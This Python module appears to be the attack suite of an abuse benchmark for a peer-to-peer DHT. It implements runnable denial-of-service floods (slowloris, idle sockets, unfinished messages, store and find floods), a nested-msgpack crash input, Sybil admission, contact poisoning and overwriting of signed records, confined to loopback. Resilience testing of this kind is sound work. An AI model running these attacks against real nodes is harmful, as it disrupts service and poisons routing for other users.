"""The attacks of the abuse benchmark; run as ``python -m abuse_kit.attacks NAME`` by the harness.

Every attack comes from one source address (``--ip``, 127.0.0.2 by default, so that the legitimate
peers of the harness on 127.0.0.1 are another IP) with as many identities as it likes, is bounded in
count (scaled by ``--scale``) and in time (ramp-up, then ``--hold`` seconds at full strength, then
everything is closed), and prints ``RESULT {json}`` with what it achieved. Pre-authentication
attacks use raw sockets; authenticated ones use :mod:`abuse_kit.wire` (raw frames after a real
handshake) or the project's own :class:`dht.P2P` (any msgpack over RPC, as a hostile client may).
"""

from __future__ import annotations

import argparse
import asyncio
import json
import os
import random
import resource
import signal
import struct
import sys
import time
from typing import Any, Awaitable, Callable

import msgpack

from dht import P2P
from dht.peer.identity import Identity, PeerID
from dht.routing import DHTID

from .wire import DATA, FLAG_MORE, bind_dials_to, bound_dials, handshake, open_raw, plain_frame

DAY = 86400.0
ATTACKS: dict[str, Callable[["Context"], Awaitable[dict]]] = {}


def attack(name: str):
    def register(fn):
        ATTACKS[name] = fn
        return fn
    return register


class Context:
    def __init__(self, args: argparse.Namespace):
        self.scale, self.hold_s, self.ip = args.scale, args.hold, args.ip
        self.info: dict = json.loads(args.info)
        self.params: dict = json.loads(args.params)
        self.victim: str = self.info["address"]
        parts = self.victim.split("/")
        self.host, self.port = parts[2], int(parts[4])
        self.victim_id = PeerID.from_base58(self.info["peer_id"])
        self.deadline = time.monotonic() + args.max_time
        self.peers: list[P2P] = []
        self.p2p_created = 0

    def count(self, n: int, minimum: int = 1) -> int:
        return max(minimum, int(round(n * self.scale)))

    def time_left(self) -> float:
        return self.deadline - time.monotonic()

    async def hold(self, seconds: float | None = None) -> None:
        await asyncio.sleep(max(0.0, min(self.hold_s if seconds is None else seconds, self.time_left() - 5)))

    async def p2p(self, listen: bool = False, identity: Identity | None = None) -> P2P:
        """A P2P peer of ours (listening on our address if ``listen``: it can be dialled back)."""
        peer = await P2P.create(host=self.ip, identity=identity or Identity(), client_mode=not listen)
        self.peers.append(peer)
        self.p2p_created += 1
        return peer

    async def raw_session(self, identity: Identity | None = None):
        reader, writer = await open_raw(self.host, self.port, self.ip)
        try:
            session = await handshake(reader, writer, identity or Identity())
        except BaseException:
            writer.close()
            raise
        session.discard_incoming()
        return session

    async def close_peers(self, peers: list[P2P] | None = None) -> None:
        peers = self.peers if peers is None else peers
        await asyncio.gather(*(asyncio.wait_for(p.shutdown(), 5) for p in peers), return_exceptions=True)
        if peers is self.peers:
            self.peers = []
        else:
            self.peers = [p for p in self.peers if p not in peers]


def _request(**fields: Any) -> dict:
    return {"v": 1, **fields}


async def _call(peer: P2P, target: str, method: str, request: Any, timeout: float = 5.0) -> tuple[bool, Any]:
    try:
        return True, await peer.call(target, method, request, timeout=timeout)
    except Exception as e:
        return False, f"{type(e).__name__}: {str(e)[:120]}"


async def _gather_limited(n: int, limit: int, fn: Callable[[int], Awaitable[Any]], ctx: Context) -> list:
    semaphore = asyncio.Semaphore(limit)

    async def run(i: int):
        async with semaphore:
            if ctx.time_left() < 10:
                return None
            try:
                return await fn(i)
            except Exception as e:
                return e

    return await asyncio.gather(*(run(i) for i in range(n)))


async def _socket_flood(ctx: Context, count: int, first: bytes, drip: bytes = b"", reconnect: bool = True) -> dict:
    """Keep ``count`` raw sockets open (reopening those the victim closes, at most 5 x ``count``
    connections in all, unless ``reconnect`` is off); each sends ``first``, then ``drip`` one byte a second."""
    stats = {"sockets": count, "opened": 0, "connect_failed": 0, "closed_by_victim": 0}
    budget = [5 * count if reconnect else count]
    stop = asyncio.Event()
    semaphore = asyncio.Semaphore(128)

    async def one() -> None:
        while budget[0] > 0 and not stop.is_set():
            budget[0] -= 1
            async with semaphore:
                try:
                    reader, writer = await open_raw(ctx.host, ctx.port, ctx.ip, 3.0)
                except (OSError, asyncio.TimeoutError):
                    stats["connect_failed"] += 1
                    continue
            stats["opened"] += 1
            try:
                if first:
                    writer.write(first)
                sent = 0
                while not stop.is_set():
                    if sent < len(drip):
                        writer.write(drip[sent:sent + 1])
                        sent += 1
                    try:
                        data = await asyncio.wait_for(reader.read(4096), 1.0)
                    except asyncio.TimeoutError:
                        continue
                    if not data:
                        stats["closed_by_victim"] += 1
                        break
            except (ConnectionError, OSError):
                stats["closed_by_victim"] += 1
            finally:
                writer.close()
            if not reconnect:
                return
            await asyncio.sleep(0.05)

    tasks = [asyncio.ensure_future(one()) for _ in range(count)]
    ramp_start = time.monotonic()
    ramp_end = ramp_start + min(30.0, ctx.time_left() / 3)
    while stats["opened"] + stats["connect_failed"] < count and time.monotonic() < ramp_end:
        await asyncio.sleep(0.1)
    stats["ramp_s"] = round(time.monotonic() - ramp_start, 2)
    await ctx.hold()
    stop.set()
    await asyncio.gather(*tasks, return_exceptions=True)
    return stats


def _hello(protocol: Any = "swarm-p2p") -> bytes:
    return plain_frame({"p": protocol, "versions": [1], "ciphers": ["aes256gcm"], "e": os.urandom(32)})


@attack("nested-hello")
async def nested_hello(ctx: Context) -> dict:
    """1,100 connections, each sending one ~1 KB hello whose protocol field is a list nested 1,000
    deep (a message that formats it with str() raises RecursionError)."""
    nested = b"\x91" * 1000 + b"\xc0"
    pack = lambda x: msgpack.packb(x, use_bin_type=True)  # noqa: E731
    body = (b"\x84" + pack("p") + nested + pack("versions") + pack([1]) + pack("ciphers") + pack(["aes256gcm"])
            + pack("e") + pack(os.urandom(32)))
    return await _socket_flood(ctx, ctx.count(1100), struct.pack("!I", len(body)) + body, reconnect=False)


@attack("idle-sockets")
async def idle_sockets(ctx: Context) -> dict:
    """2,000 sockets that connect and send nothing (reopened when closed, 10,000 connections at most)."""
    return await _socket_flood(ctx, ctx.count(2000), b"")


@attack("slowloris")
async def slowloris(ctx: Context) -> dict:
    """300 sockets sending a valid hello one byte per second (reopened when closed)."""
    hello = _hello()
    return await _socket_flood(ctx, ctx.count(300), hello[:1], drip=hello[1:])


@attack("frame-announce")
async def frame_announce(ctx: Context) -> dict:
    """200 authenticated connections (one identity each) whose first frame announces the largest
    frame the victim accepts (1 MiB + room) and then sends nothing more."""
    n = ctx.count(200)
    announce = struct.pack("!I", (1 << 20) + 64 + 16) + b"\0" * 16
    sessions = []

    async def one(i: int) -> None:
        session = await ctx.raw_session()
        sessions.append(session)
        await session.send(announce)

    results = await _gather_limited(n, 16, one, ctx)
    await ctx.hold()
    closed = sum(s.closed for s in sessions)
    for s in sessions:
        s.close()
    return {"connections": n, "established": len(sessions), "closed_by_victim": closed,
            "errors": sum(isinstance(r, Exception) for r in results)}


@attack("unfinished-messages")
async def unfinished_messages(ctx: Context) -> dict:
    """4 connections (one identity each) x 32 streams x 4 MiB of a message that never ends (DATA
    frames with MORE, within the flow-control window), held open: 512 MiB announced."""
    connections, streams, mib = 4, ctx.count(32), 4
    chunk = b"\x55" * (1 << 20)
    stats = {"connections": connections, "streams_per_connection": streams, "mib_per_stream": mib,
             "mib_sent": 0, "connections_closed_by_victim": 0}
    sessions = []

    async def feed(i: int) -> None:
        session = await ctx.raw_session()
        sessions.append(session)
        ids = [1 + 2 * s for s in range(streams)]
        await session.send(b"".join(session.open_frame(sid, "dht.store") for sid in ids))
        for _ in range(mib):
            for sid in ids:
                if session.closed or ctx.time_left() < 10:
                    return
                await session.send(session.frame(DATA, FLAG_MORE, sid, chunk))
                stats["mib_sent"] += 1

    results = await _gather_limited(connections, connections, feed, ctx)
    await ctx.hold()
    stats["connections_closed_by_victim"] = sum(s.closed for s in sessions)
    stats["errors"] = [str(r)[:100] for r in results if isinstance(r, Exception)][:3]
    for s in sessions:
        s.close()
    return stats


@attack("never-fed")
async def never_fed(ctx: Context) -> dict:
    """One identity, 12 connections x 1,024 streams opened on ``dht.ping`` without a deadline and
    never sent a request (each a handler waiting for it); ``accepted``: streams the victim had not
    failed (ERROR) on a connection it kept open by the end of the hold."""
    identity = Identity()
    connections, streams = ctx.count(12), 1024
    sessions = []

    async def one(i: int) -> None:
        session = await ctx.raw_session(identity)
        sessions.append(session)
        for start in range(0, streams, 128):
            await session.send(b"".join(session.open_frame(1 + 2 * s, "dht.ping")
                                        for s in range(start, min(start + 128, streams))))

    results = await _gather_limited(connections, 4, one, ctx)
    await ctx.hold()
    closed = sum(s.closed or s.goaway for s in sessions)
    accepted = sum(streams - len(s.errors) for s in sessions if not (s.closed or s.goaway))
    codes = sorted({c for s in sessions for c in s.errors.values()})
    for s in sessions:
        s.close()
    return {"connections": connections, "established": len(sessions), "streams_opened": len(sessions) * streams,
            "accepted": accepted, "error_codes": codes, "closed_by_victim": closed,
            "errors": [str(r)[:100] for r in results if isinstance(r, Exception)][:3]}


@attack("unsigned-store")
async def unsigned_store(ctx: Context) -> dict:
    """Unsigned regular values with a 29-day expiration stored over every key that holds the
    victim's signed records (``swarm.runs`` and the like), three times 1 s apart, then held while
    the owner keeps refreshing its records."""
    peer = await ctx.p2p()
    pack = lambda x: msgpack.packb(x, use_bin_type=True)  # noqa: E731
    keys = sorted({k for k, s in ctx.info["signed"]})
    answers: dict[str, Any] = {}
    for _ in range(3):
        exp = time.time() + 29 * DAY
        items = [[pack(k), None, pack({}), exp, False] for k in keys]
        items += [[pack(k), None, pack({}), exp, True] for k in keys]  # and into the cache
        ok, reply = await _call(peer, ctx.victim, "dht.store", _request(server=False, items=items))
        answers = {"ok": ok, "reply": reply.get("ok") if ok and isinstance(reply, dict) else str(reply)[:200]}
        await asyncio.sleep(1.0)
    await ctx.hold()
    return {"keys": keys, "last_answers": answers}


def _answer_like_a_dht_node(peer: P2P, honest: bool = False) -> None:
    """DHT server handlers, so that the victim's liveness checks of our identities succeed. A
    dishonest node accepts every store and never has a value (an eclipse); an honest one keeps
    what it is given (at most 10,000 items) and returns it."""
    kept: dict[bytes, list] = {}

    async def on_ping(request: Any, _ctx: Any) -> dict:
        return {"v": 1, "server": True, "t": time.time()}

    async def on_find(request: Any, _ctx: Any) -> dict:
        keys = request.get("keys", []) if isinstance(request, dict) else []
        return {"v": 1, "results": [[kept.get(bytes(k)) if honest else None, []] for k in keys[:512]]}

    async def on_store(request: Any, _ctx: Any) -> dict:
        items = request.get("items", []) if isinstance(request, dict) else []
        if honest:
            for item in items[:4096]:
                try:
                    key, subkey, value, exp, _ = item
                    key_id = DHTID.of_key(key).to_bytes20()
                    if len(kept) >= 10_000 and key_id not in kept:
                        continue
                    if subkey is None:
                        kept[key_id] = [key, value, exp]
                    else:
                        entry = kept.get(key_id)
                        if entry is None or len(entry) != 2:
                            entry = kept[key_id] = [key, []]
                        entry[1] = [e for e in entry[1] if e[0] != subkey][:255] + [[subkey, value, exp]]
                except (TypeError, ValueError):
                    continue
        return {"v": 1, "ok": [True] * len(items[:4096])}

    peer.add_unary_handler("dht.ping", on_ping)
    peer.add_unary_handler("dht.find", on_find)
    peer.add_unary_handler("dht.store", on_store)


async def _admit(ctx: Context, n: int, listen: bool = True, concurrency: int = 32,
                 identities: list[Identity] | None = None, honest: bool = False) -> tuple[list[P2P], int]:
    """``n`` identities of ours ping the victim claiming to be servers, then hang up (they keep
    listening, so that a dial-back reaches them); returns them and how many got an answer."""
    peers: list[P2P] = []

    loop = asyncio.get_running_loop()

    async def one(i: int) -> bool:
        peer = await ctx.p2p(listen=listen, identity=identities[i] if identities else None)
        _answer_like_a_dht_node(peer, honest)
        peers.append(peer)
        ok, _ = await _call(peer, ctx.victim, "dht.ping", _request(server=True, t=time.time()))
        loop.call_later(0.5, peer.disconnect, ctx.victim_id, "bye")  # after a dial-back had time to happen
        return ok

    results = await _gather_limited(n, concurrency, one, ctx)
    return peers, sum(r is True for r in results)


async def _contacts_seen(ctx: Context, peer: P2P, ours: set[bytes], finds: int = 16) -> tuple[int, int, list]:
    """(our identities, all contacts, errors) among the distinct contacts of ``finds`` random finds at the victim."""
    seen: set[bytes] = set()
    errors = []
    for _ in range(finds):
        ok, reply = await _call(peer, ctx.victim, "dht.find", _request(server=False, keys=[os.urandom(20)], k=64))
        if ok and isinstance(reply, dict):
            for result in reply.get("results", []):
                for contact in result[1]:
                    seen.add(bytes(contact[0]))
        elif len(errors) < 2:
            errors.append(str(reply)[:160])
    return len(seen & ours), len(seen), errors


@attack("sybil-admission")
async def sybil_admission(ctx: Context) -> dict:
    """2,000 throw-away identities (each listening on our address, so a dial-back would succeed,
    and answering DHT calls without ever holding a value) ping the victim claiming to be servers;
    then how many of the contacts the victim gives out are ours, and again after they all left."""
    n = ctx.count(2000)
    observer = await ctx.p2p()
    await _call(observer, ctx.victim, "p2p.ping", b"")  # connected before the flood
    t0 = time.monotonic()
    sybils, answered = await _admit(ctx, n)
    admit_s = time.monotonic() - t0
    ours = {p.peer_id.raw for p in sybils}
    in_table, seen, errors = await _contacts_seen(ctx, observer, ours)
    await ctx.hold()
    await ctx.close_peers(sybils)
    await asyncio.sleep(2.0)
    departed_listed, _, more = await _contacts_seen(ctx, observer, ours)
    return {"identities": n, "answered": answered, "admit_s": round(admit_s, 2), "sybils_listed": in_table,
            "contacts_listed": seen, "departed_still_listed": departed_listed, "find_errors": (errors + more)[:3]}


def _close_identity(victim_node_id: int, bits: int) -> Identity:
    """An identity whose DHT node id shares the first ``bits`` bits with ``victim_node_id``."""
    while True:
        identity = Identity()
        if (DHTID.of_peer(identity.peer_id) ^ victim_node_id) >> (160 - bits) == 0:
            return identity


@attack("handover-pings")
async def handover_pings(ctx: Context) -> dict:
    """Against a victim holding 60k records: 300 filler identities (honest DHT nodes: they keep what
    they are given) fill its routing table, then 10
    identities with node ids close to the victim's ping it (each a new neighbour to hand records
    to), 0.5 s apart."""
    fillers, admitted = await _admit(ctx, ctx.count(300), honest=True)
    victim_node = DHTID.of_peer(ctx.victim_id)
    close = [_close_identity(victim_node, 10) for _ in range(ctx.count(10))]
    rtts = []
    for identity in close:
        peer = await ctx.p2p(listen=True, identity=identity)
        t0 = time.monotonic()
        ok, _ = await _call(peer, ctx.victim, "dht.ping", _request(server=True, t=time.time()))
        rtts.append(round(time.monotonic() - t0, 3) if ok else None)
        await asyncio.sleep(0.5)
    await ctx.hold()
    return {"fillers": len(fillers), "fillers_answered": admitted, "close_pings": len(close), "ping_rtts_s": rtts}


@attack("find-flood")
async def find_flood(ctx: Context) -> dict:
    """64 filler identities (honest DHT nodes) give the victim a routing table, then 16 identities x 12 concurrent
    callers send finds of 512 keys (k=64) for the hold time (at most 20,000 requests; a refused one
    is retried after 50 ms)."""
    await _admit(ctx, ctx.count(64, minimum=8), honest=True)
    callers = [await ctx.p2p() for _ in range(16)]
    budget = [ctx.count(20000)]
    stats = {"requests": 0, "ok": 0, "errors": 0, "reply_s_max": 0.0}
    end = time.monotonic() + max(ctx.hold_s, 1.0)

    async def loop(peer: P2P) -> None:
        while budget[0] > 0 and time.monotonic() < end and ctx.time_left() > 10:
            budget[0] -= 1
            stats["requests"] += 1
            t0 = time.monotonic()
            ok, _ = await _call(peer, ctx.victim, "dht.find",
                                _request(server=False, keys=[os.urandom(20) for _ in range(512)], k=64))
            stats["ok" if ok else "errors"] += 1
            stats["reply_s_max"] = round(max(stats["reply_s_max"], time.monotonic() - t0), 3)
            if not ok:
                await asyncio.sleep(0.05)

    await asyncio.gather(*(loop(p) for p in callers for _ in range(12)))
    return stats


@attack("contact-poisoning")
async def contact_poisoning(ctx: Context) -> dict:
    """A peer of ours joins the victim's table and answers every find and store of the victim with
    a contact list naming the legitimate peer L (``params.target``) at *our* address; the harness
    meanwhile drops L's connection now and then, so that the victim has to dial L again."""
    target = PeerID.from_base58(ctx.params["target"])
    peer = await ctx.p2p(listen=True)
    poison = str(peer.get_visible_addresses()[0].without_peer_id())
    contacts = [[target.raw, [poison]], [peer.peer_id.raw, [poison]]]
    served = {"find": 0, "store": 0}

    async def on_ping(request: Any, _ctx: Any) -> dict:
        return {"v": 1, "server": True, "t": time.time()}

    async def on_find(request: Any, _ctx: Any) -> dict:
        served["find"] += 1
        keys = request.get("keys", []) if isinstance(request, dict) else []
        return {"v": 1, "results": [[None, contacts] for _ in keys[:512]]}

    async def on_store(request: Any, _ctx: Any) -> dict:
        served["store"] += 1
        items = request.get("items", []) if isinstance(request, dict) else []
        return {"v": 1, "ok": [True] * len(items), "near": contacts}

    peer.add_unary_handler("dht.ping", on_ping)
    peer.add_unary_handler("dht.find", on_find)
    peer.add_unary_handler("dht.store", on_store)
    pings = 0
    end = time.monotonic() + max(ctx.hold_s, 6.0)
    while time.monotonic() < end and ctx.time_left() > 10:
        ok, _ = await _call(peer, ctx.victim, "dht.ping", _request(server=True, t=time.time()))
        pings += ok
        await asyncio.sleep(1.0)
    return {"poison_address": poison, "pings_answered": pings, "served": served}


async def _store_flood(ctx: Context, peer: P2P, items: list[list], per_call: int) -> tuple[int, int, list[str]]:
    accepted = refused = 0
    reasons: list[str] = []
    for start in range(0, len(items), per_call):
        if ctx.time_left() < 10:
            break
        ok, reply = await _call(peer, ctx.victim, "dht.store", _request(server=False, items=items[start:start + per_call]),
                                timeout=30)
        answers = reply.get("ok") if ok and isinstance(reply, dict) else None
        if not isinstance(answers, list):
            refused += len(items[start:start + per_call])
            if len(reasons) < 3:
                reasons.append(str(reply)[:120])
            continue
        for answer in answers:
            if answer is True:
                accepted += 1
            else:
                refused += 1
                if len(reasons) < 3 and str(answer)[:120] not in reasons:
                    reasons.append(str(answer)[:120])
    return accepted, refused, reasons


@attack("storage-bytes")
async def storage_bytes(ctx: Context) -> dict:
    """One identity stores 1,600 values of 250 KiB each (400 MiB), 16 per request."""
    peer = await ctx.p2p()
    n = ctx.count(1600)
    exp = time.time() + 3600
    blob = msgpack.packb(os.urandom(250 << 10), use_bin_type=True)
    tag = os.urandom(4).hex()
    items = [[msgpack.packb(f"junk/{tag}/{i}"), None, blob, exp, False] for i in range(n)]
    accepted, refused, reasons = await _store_flood(ctx, peer, items, 16)
    await ctx.hold()
    return {"values": n, "value_kib": 250, "accepted": accepted, "refused": refused, "reasons": reasons}


@attack("storage-entries")
async def storage_entries(ctx: Context) -> dict:
    """Eleven identities store 20,000 small entries each (a per-peer quota's worth; 220k in all, past a
    200k global cap), 4,096 per request."""
    identities, per_identity = 11, ctx.count(20000)
    exp = time.time() + 3600
    total_accepted = total_refused = 0
    reasons: list[str] = []

    async def one(i: int) -> None:
        nonlocal total_accepted, total_refused
        peer = await ctx.p2p()
        tag = os.urandom(4).hex()
        items = [[msgpack.packb(f"fill/{tag}/{j}"), None, msgpack.packb(j), exp, False] for j in range(per_identity)]
        accepted, refused, why = await _store_flood(ctx, peer, items, 4096)
        total_accepted += accepted
        total_refused += refused
        reasons.extend(r for r in why if r not in reasons)

    await _gather_limited(identities, 3, one, ctx)
    await ctx.hold()
    return {"identities": identities, "entries_each": per_identity, "accepted": total_accepted,
            "refused": total_refused, "reasons": reasons[:3]}


@attack("large-subkeys")
async def large_subkeys(ctx: Context) -> dict:
    """300 subkeys of 240 KiB each (70 MiB, past the message limit) under the victim's shared
    dictionary key, 8 per request, from one identity."""
    peer = await ctx.p2p()
    key, _ = ctx.info["shared"]
    n = ctx.count(300)
    exp = time.time() + 3600
    blob = msgpack.packb(os.urandom(240 << 10), use_bin_type=True)
    items = [[msgpack.packb(key), msgpack.packb(f"junk-{i}"), blob, exp, False] for i in range(n)]
    accepted, refused, reasons = await _store_flood(ctx, peer, items, 8)
    await ctx.hold()
    return {"subkeys": n, "accepted": accepted, "refused": refused, "reasons": reasons}


@attack("avg-part")
async def avg_part(ctx: Context) -> dict:
    """5,000 ``avg.part`` streams (one identity), each a header with a random 60 KB group id,
    cancelled after 50 ms (needs ``--averaging``)."""
    prefix = ctx.info.get("averaging_prefix")
    if not prefix:
        raise SystemExit("avg-part needs a victim with --averaging")
    peer = await ctx.p2p()
    n = ctx.count(5000)
    method = f"avg.part.{prefix}"

    async def one(i: int) -> None:
        stream = await peer.open_stream(ctx.victim, method, timeout=None)
        try:
            await stream.send({"g": os.urandom(60_000), "p": 0, "t": b"", "i": 0, "w": 1.0})
            await asyncio.sleep(0.05)
        finally:
            stream.cancel()

    results = await _gather_limited(n, 64, one, ctx)
    await ctx.hold()
    return {"streams": n, "errors": sum(isinstance(r, Exception) for r in results)}


@attack("gossip-push")
async def gossip_push(ctx: Context) -> dict:
    """16 identities each start a gossip push whose tensor header matches the victim's sum (32 MB
    of float64), send 24 MiB of it and never the rest (needs ``--averaging``)."""
    gossip = ctx.info.get("gossip")
    if not gossip:
        raise SystemExit("gossip-push needs a victim with --averaging")
    n = ctx.count(16)
    streams, refused = [], []

    async def one(i: int) -> None:
        peer = await ctx.p2p()
        stream = await peer.open_stream(ctx.victim, gossip["method"], timeout=None)
        streams.append(stream)
        await stream.send({"w": 1.0})
        await stream.send({"dtype": "float64", "shape": gossip["shape"], "chunk": 1 << 20})
        chunk = bytes(1 << 20)
        for _ in range(24):
            await stream.send(chunk)

    results = await _gather_limited(n, 8, one, ctx)
    await ctx.hold()
    for stream in streams:
        try:  # an answer (a refusal) or a failed stream: the victim let go of this push
            await asyncio.wait_for(stream.recv(), 0.01)
            refused.append(stream)
        except asyncio.TimeoutError:
            pass
        except Exception:
            refused.append(stream)
        stream.cancel()
    return {"pushes": n, "started": len(streams), "answered_or_failed": len(refused),
            "errors": [str(r)[:100] for r in results if isinstance(r, Exception)][:3]}


@attack("state-downloads")
async def state_downloads(ctx: Context) -> dict:
    """Against a daemon: read its state announcement (``{run}.state``, re-read every 0.5 s: a new
    state is published each epoch), and 8 identities x 8 concurrent callers download the whole
    state (ranges of up to 16 MiB) again and again for the hold time (at most 10,000 requests; a
    refused one is retried after 50 ms)."""
    from dht.node import DHTNode

    run = ctx.info["run"]
    reader = await DHTNode.create([ctx.victim], host=ctx.ip, client_mode=True)
    current: dict = {}

    async def read_announcement() -> None:
        found = await reader.get(f"{run}.state", latest=True)
        values = found.value.values() if found is not None and isinstance(found.value, dict) else []
        announcements = [v.value for v in values if isinstance(v.value, dict) and "hash" in v.value]
        if announcements:
            current.update(max(announcements, key=lambda a: a.get("epoch", 0)))

    stop = asyncio.Event()

    async def refresh() -> None:
        while not stop.is_set():
            await asyncio.sleep(0.5)
            try:
                await read_announcement()
            except Exception:
                pass

    try:
        await read_announcement()
        if not current:
            return {"error": "no state announcement found"}
        refresher = asyncio.ensure_future(refresh())
        callers = [await ctx.p2p() for _ in range(8)]
        budget = [ctx.count(10000)]
        stats = {"state_bytes": int(current["size"]), "requests": 0, "ok": 0, "errors": {}, "mib_received": 0.0}
        end = time.monotonic() + max(ctx.hold_s, 1.0)

        async def loop(peer: P2P) -> None:
            while budget[0] > 0 and time.monotonic() < end and ctx.time_left() > 10:
                budget[0] -= 1
                stats["requests"] += 1
                request = {"hash": current["hash"], "offset": 0, "length": max(1, min(int(current["size"]), 16 << 20))}
                ok, reply = await _call(peer, ctx.victim, f"swarm.state.{run}", request, timeout=30)
                if ok and isinstance(reply, dict) and isinstance(reply.get("data"), bytes):
                    stats["ok"] += 1
                    stats["mib_received"] = round(stats["mib_received"] + len(reply["data"]) / (1 << 20), 1)
                else:
                    code = str(reply).split(" ")[0][:40]
                    stats["errors"][code] = stats["errors"].get(code, 0) + 1
                    await asyncio.sleep(0.05)

        await asyncio.gather(*(loop(p) for p in callers for _ in range(8)))
        stop.set()
        await asyncio.gather(refresher, return_exceptions=True)
        return stats
    finally:
        stop.set()
        await reader.shutdown()


async def _run(args: argparse.Namespace) -> dict:
    ctx = Context(args)
    try:
        stats = await ATTACKS[args.attack](ctx)
    finally:
        await ctx.close_peers()
    stats["p2p_dials_from_attacker_ip"] = bound_dials()
    if ctx.p2p_created and not bound_dials():  # P2P no longer dials through loop.create_connection
        stats["error"] = f"the P2P peers of this attack did not dial from {args.ip}: results would be mislabelled"
    return stats


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("attack", choices=sorted(ATTACKS))
    parser.add_argument("--info", required=True, help="the victim's ready line (JSON)")
    parser.add_argument("--params", default="{}", help="attack-specific parameters (JSON)")
    parser.add_argument("--scale", type=float, default=1.0)
    parser.add_argument("--hold", type=float, default=8.0, help="seconds at full strength")
    parser.add_argument("--ip", default="127.0.0.2")
    parser.add_argument("--max-time", type=float, default=120.0)
    args = parser.parse_args()
    if not args.ip.startswith("127."):
        raise SystemExit("attacks go to loopback only")
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    bind_dials_to(args.ip)
    signal.alarm(int(args.max_time) + 30)  # a last resort: SIGALRM ends this process whatever it is doing
    random.seed()
    t0 = time.monotonic()
    stats = asyncio.run(_run(args))
    stats["attacker_s"] = round(time.monotonic() - t0, 2)
    print("RESULT " + json.dumps(stats), flush=True)
    sys.stdout.flush()
    os._exit(0)  # connections die with the process; no lingering shutdown


if __name__ == "__main__":
    main()
